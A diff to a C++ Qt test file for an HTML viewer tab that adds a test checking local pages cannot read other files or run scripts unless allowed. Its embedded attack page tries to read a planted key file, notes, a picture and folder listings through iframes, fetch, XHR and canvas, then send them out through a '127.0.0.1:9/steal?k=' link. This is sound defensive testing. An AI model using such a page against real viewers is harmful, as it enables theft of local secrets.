@@ -3,16 +3,26 @@
 #include <gtest/gtest.h>
 #include <QAction>
 #include <QApplication>
+#include <QCheckBox>
 #include <QClipboard>
+#include <QColor>
 #include <QComboBox>
+#include <QDialog>
 #include <QFile>
 #include <QFileInfo>
+#include <QImage>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QLineEdit>
+#include <QMenu>
 #include <QPrinter>
 #include <QProcess>
 #include <QSignalSpy>
 #include <QTest>
-#include <QMenu>
+#include <QUrl>
+#include <QUuid>
 #include <QWebEnginePage>
+#include <QWebEngineScript>
 #include <QWebEngineView>
 #include "controls/htmlview.h"
 #include "controls/tledit.h"
@@ -96,11 +106,30 @@ class HtmlTab : public ::testing::Test {
     tab->LEdit2->selectAll();
     tab->LEdit2->replaceSelectedText(text);
   }
-  // Runs a script in the page and waits for it.
-  void runJs(const QString &js) {
+  // Runs a script beside the page's and waits for it: it sees the page's document (pages run no scripts of
+  // their own unless allowed; the page's own world is QWebEngineScript::MainWorld).
+  void runJs(const QString &js, quint32 world = QWebEngineScript::ApplicationWorld) { result(js, world); }
+  QVariant result(const QString &js, quint32 world = QWebEngineScript::ApplicationWorld) {
+    QVariant value;
     bool done = false;
-    tab->HtmlView->engineView()->page()->runJavaScript(js, [&](const QVariant &) { done = true; });
+    tab->HtmlView->engineView()->page()->runJavaScript(js, world, [&](const QVariant &v) {
+      value = v;
+      done = true;
+    });
     testenv::waitFor([&] { return done; }, 10000);
+    return value;
+  }
+  QString title() const { return tab->HtmlView->engineView()->page()->title(); }
+  // A real mouse move to the middle of the element with the given id, and a click there if asked.
+  void pointAt(const QString &id, bool click) {
+    const QVariantList r = result(QString("(function(){var b=document.getElementById('%1').getBoundingClientRect();"
+                                          "return [b.left+b.width/2,b.top+b.height/2];})()").arg(id)).toList();
+    ASSERT_EQ(r.size(), 2) << id.toStdString();
+    QWidget *surface = tab->HtmlView->engineView()->focusProxy();
+    ASSERT_TRUE(surface);
+    const QPoint p(int(r[0].toDouble()), int(r[1].toDouble()));
+    QTest::mouseMove(surface, p);
+    if (click) QTest::mouseClick(surface, Qt::LeftButton, {}, p);
   }
 
   QString dir;
@@ -337,6 +366,199 @@ TEST_F(HtmlTab, WebAndMailLinksLeaveOnlyThroughFollowLink) {
   tab->FollowLink1Click();
   EXPECT_EQ(host.opened, QStringList({"HTTP://example.invalid/caps", "http://example.invalid/web",
                                       "mailto:someone@example.invalid"}));
+}
+
+// A page shown at a click tries every way to read files that are not itself (a key elsewhere, a note beside
+// it, a settings file that parses as a script, a picture, a folder) and to send what it got out through
+// Follow Link: nothing of them reaches the page or the link, and no folder is listed; the page's own frame
+// and picture show. Scripts run only once allowed for the page shown, and stop at the next page however it
+// comes (a link, a script, Back, a new file).
+TEST_F(HtmlTab, PagesReadNoOtherFilesAndScriptsRunOnlyWhereAllowed) {
+  const QString key = QUuid::createUuid().toString(QUuid::Id128);
+  const QString near = QUuid::createUuid().toString(QUuid::Id128);
+  const QString listed = QUuid::createUuid().toString(QUuid::Id128);
+  const QString secrets = testenv::makeDir("secrets");
+  testenv::writeFile(secrets + "/id_rsa", ("-----BEGIN KEY-----\n" + key + "\n-----END KEY-----\n").toUtf8());
+  testenv::writeFile(secrets + "/settings.env", ("LEAK_ENV = \"" + key + "\"\n").toUtf8());
+  testenv::writeFile(secrets + "/file-" + listed + ".txt", "listed only by name");
+  QImage pixel(2, 2, QImage::Format_RGB32);
+  pixel.fill(QColor(18, 52, 86));
+  ASSERT_TRUE(pixel.save(secrets + "/pixel.png"));
+  QImage own(40, 30, QImage::Format_RGB32);
+  own.fill(Qt::green);
+  ASSERT_TRUE(own.save(dir + "/own.png"));
+  testenv::writeFile(dir + "/notes.txt", near.toUtf8());
+  testenv::writeFile(dir + "/own.htm", "<p>Own frame text</p>");
+  const QString far = QUrl::fromLocalFile(secrets).toString();
+  // What the page reads it publishes at once (title, link), and again as the slower ways come back.
+  const QString page = testenv::writeFile(dir + "/attack.htm", QString(R"(<!DOCTYPE html>
+<html><head><meta charset="utf-8"><title>attack</title><script src="FAR/settings.env"></script></head><body>
+<a id="steal" href="http://127.0.0.1:9/steal?k=" style="display:block;font-size:40px">steal</a>
+<img id="own" src="own.png"><iframe id="ownframe" src="own.htm"></iframe>
+<iframe id="far" src="FAR/id_rsa"></iframe><iframe id="near" src="notes.txt"></iframe>
+<object id="obj" data="FAR/id_rsa" type="text/plain"></object><embed id="emb" src="FAR/id_rsa" type="text/plain">
+<iframe id="dir" src="FAR/"></iframe><iframe id="dir2" src="FAR"></iframe>
+<iframe id="fr2" name="fr2" src="about:blank"></iframe><a id="tofile" href="FAR/id_rsa" target="fr2">key</a>
+<img id="pix" src="FAR/pixel.png">
+<script>
+var got = {};
+function frame(k, el) {
+  try {
+    var d = el.contentDocument || (el.getSVGDocument && el.getSVGDocument());
+    got[k] = d ? d.documentElement.outerHTML : 'no document';
+  } catch (e) { got[k] = 'denied'; }
+}
+function publish() {
+  var all = JSON.stringify(got);
+  document.title = all;
+  document.getElementById('steal').href = 'http://127.0.0.1:9/steal?k=' + encodeURIComponent(all);
+}
+window.addEventListener('load', function() {
+  got.env = typeof LEAK_ENV === 'undefined' ? 'none' : String(LEAK_ENV);
+  ['far', 'near', 'obj', 'emb', 'dir', 'dir2'].forEach(function(k) { frame(k, document.getElementById(k)); });
+  var c = document.createElement('canvas');
+  c.width = 2; c.height = 2;
+  var g = c.getContext('2d');
+  try { g.drawImage(document.getElementById('pix'), 0, 0);
+        got.pixels = Array.prototype.join.call(g.getImageData(0, 0, 1, 1).data, ','); } catch (e) { got.pixels = 'denied'; }
+  try { got.dataUrl = c.toDataURL(); } catch (e) { got.dataUrl = 'denied'; }
+  publish();
+  fetch('FAR/id_rsa').then(function(r) { return r.text(); })
+      .then(function(t) { got.fetch = t; }, function() { got.fetch = 'failed'; }).then(publish);
+  var x = new XMLHttpRequest();
+  x.onload = function() { got.xhr = x.responseText; publish(); };
+  x.onerror = function() { got.xhr = 'failed'; publish(); };
+  x.open('GET', 'FAR/id_rsa');
+  x.send();
+  var fr2 = document.getElementById('fr2');
+  fr2.onload = function() { frame('link', fr2); publish(); };
+  document.getElementById('tofile').click();
+});
+</script></body></html>)").replace("FAR", far).toUtf8());
+
+  auto carriesSecret = [&](const QString &text) {
+    return text.contains(key) || text.contains(near) || text.contains(listed) || text.contains("18,52,86");
+  };
+  EXPECT_FALSE(tab->AllowScripts1->isEnabled()) << "no page yet";
+  ASSERT_TRUE(show(page));
+  EXPECT_TRUE(tab->AllowScripts1->isEnabled());
+  EXPECT_FALSE(tab->HtmlView->ScriptsAllowed());
+  EXPECT_FALSE(carriesSecret(title())) << title().toStdString();
+  EXPECT_FALSE(carriesSecret(result("document.documentElement.outerHTML").toString()));
+
+  // No frame shows a folder's listing (the only place the listed file's name could appear); the page's own
+  // frame and picture show.
+  QSignalSpy finds(tab.get(), &THtmlTab::findFinished);
+  tab->FindDialogFind(listed, false);
+  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 1; }, 10000));
+  EXPECT_FALSE(finds[0][0].toBool()) << "a folder listed in a frame";
+  tab->FindDialogFind("Own frame text", true);
+  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 2; }, 10000));
+  EXPECT_TRUE(finds[1][0].toBool()) << "the page's own frame";
+  EXPECT_EQ(result("document.getElementById('own').naturalWidth").toInt(), 40) << "the page's own picture";
+
+  // Follow Link hands out the page's link as it hands out any, with nothing of the files in it.
+  pointAt("steal", false);
+  ASSERT_TRUE(testenv::waitFor([&] { return tab->LastLink.contains("/steal?k="); }, 10000)) << tab->LastLink.toStdString();
+  tab->FollowLink1Click();
+  ASSERT_EQ(host.opened.size(), 1);
+  EXPECT_TRUE(host.opened[0].startsWith("http://127.0.0.1:9/steal?k=")) << host.opened[0].toStdString();
+  EXPECT_FALSE(carriesSecret(QUrl::fromPercentEncoding(host.opened[0].toUtf8()))) << host.opened[0].toStdString();
+  EXPECT_FALSE(carriesSecret(title())) << title().toStdString();
+
+  // Scripts allowed for one page run there, and in no page that comes after it.
+  const QString a = testenv::writeFile(dir + "/a.htm",
+      "<html><head><title>A static</title><script>document.title = 'A ran';</script></head><body>"
+      "<a id=\"tob\" href=\"b.htm\" style=\"display:block;font-size:40px\">to b</a></body></html>");
+  const QString b = testenv::writeFile(dir + "/b.htm",
+      "<html><head><title>B static</title><script>document.title = 'B ran';</script></head><body>B</body></html>");
+  const QString c = testenv::writeFile(dir + "/c.htm",
+      "<html><head><title>C static</title><script>document.title = 'C ran';</script></head><body>C</body></html>");
+  auto shows = [&](const QString &file, const QString &shownTitle) {
+    return testenv::waitFor([&] {
+      return tab->HtmlView->engineView()->page()->url() == QUrl::fromLocalFile(file) && !tab->HtmlView->isLoading() &&
+             title() == shownTitle;
+    }, 20000);
+  };
+  auto allow = [&] {
+    tab->HtmlMenuPopup();
+    EXPECT_FALSE(tab->AllowScripts1->isChecked());
+    tab->AllowScripts1->trigger();
+    EXPECT_TRUE(tab->AllowScripts1->isChecked());
+    EXPECT_TRUE(tab->HtmlView->ScriptsAllowed());
+  };
+  auto stopped = [&] {
+    EXPECT_FALSE(tab->HtmlView->ScriptsAllowed());
+    tab->HtmlMenuPopup();
+    EXPECT_FALSE(tab->AllowScripts1->isChecked());
+  };
+  ASSERT_TRUE(show(a));
+  ASSERT_TRUE(shows(a, "A static"));
+  allow();
+  ASSERT_TRUE(shows(a, "A ran"));
+  EXPECT_EQ(tab->HtmlView->currentFile(), a);
+  pointAt("tob", true);  // a link
+  ASSERT_TRUE(shows(b, "B static")) << title().toStdString();
+  stopped();
+  tab->Back1Click();  // Back to the allowed page: without scripts now
+  ASSERT_TRUE(shows(a, "A static")) << title().toStdString();
+  stopped();
+  allow();
+  ASSERT_TRUE(shows(a, "A ran"));
+  runJs("location.href = 'b.htm'", QWebEngineScript::MainWorld);  // a script
+  ASSERT_TRUE(shows(b, "B static")) << title().toStdString();
+  stopped();
+  tab->Back1Click();
+  ASSERT_TRUE(shows(a, "A static"));
+  allow();
+  ASSERT_TRUE(shows(a, "A ran"));
+  ASSERT_TRUE(show(c));  // a new file
+  ASSERT_TRUE(shows(c, "C static")) << title().toStdString();
+  stopped();
+  // Scripts or not, no folder is shown: not in a frame (the listing would name the files), not by a link.
+  const QString d = testenv::writeFile(dir + "/d.htm", QString(
+      "<html><head><title>D static</title><script>document.title = 'D ran';</script></head><body>"
+      "<a id=\"todir\" href=\"FAR/\" style=\"display:block;font-size:40px\">folder</a>"
+      "<iframe src=\"FAR/\"></iframe><iframe src=\"FAR\"></iframe></body></html>").replace("FAR", far).toUtf8());
+  ASSERT_TRUE(show(d));
+  allow();
+  ASSERT_TRUE(shows(d, "D ran"));
+  tab->FindDialogFind(listed, false);
+  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 3; }, 10000));
+  EXPECT_FALSE(finds[2][0].toBool()) << "a folder listed in a frame of a page with scripts";
+  QStringList refused;
+  QObject::connect(tab->HtmlView, &THtmlView::refused, [&](const QString &u) { refused << u; });
+  pointAt("todir", true);
+  ASSERT_TRUE(testenv::waitFor([&] { return !refused.isEmpty(); }, 10000));
+  EXPECT_TRUE(refused.last().startsWith(far)) << refused.last().toStdString();
+  EXPECT_TRUE(shows(d, "D ran")) << "the page stays, with its scripts";
+  EXPECT_TRUE(tab->HtmlView->ScriptsAllowed());
+
+  ASSERT_TRUE(show(c));
+  allow();  // and off again by the menu
+  ASSERT_TRUE(shows(c, "C ran"));
+  tab->AllowScripts1->trigger();
+  EXPECT_FALSE(tab->HtmlView->ScriptsAllowed());
+  EXPECT_FALSE(tab->AllowScripts1->isChecked());
+  tab->MenuItem1Click();
+  EXPECT_FALSE(tab->AllowScripts1->isEnabled());
+}
+
+// The find dialog's label names its field: Alt+N goes to the field (a label without one shows the "&").
+TEST_F(HtmlTab, FindDialogLabelIsTheFieldsMnemonic) {
+  tab->Find1Click();
+  auto *dialog = tab->findChild<QDialog *>("FindDialog");
+  ASSERT_TRUE(dialog);
+  auto *field = dialog->findChild<QLineEdit *>();
+  auto *matchCase = dialog->findChild<QCheckBox *>();
+  ASSERT_TRUE(field && matchCase);
+  QApplication::setActiveWindow(dialog);
+  ASSERT_TRUE(QTest::qWaitForWindowActive(dialog));
+  matchCase->setFocus();
+  ASSERT_TRUE(testenv::waitFor([&] { return matchCase->hasFocus(); }));
+  QTest::keyClick(matchCase, Qt::Key_N, Qt::AltModifier);
+  EXPECT_TRUE(testenv::waitFor([&] { return field->hasFocus(); }));
+  dialog->hide();
 }
 
 TEST_F(HtmlTab, CopyAsksAboveTheLimitFindReportsTheEndAndPrintsPageRanges) {
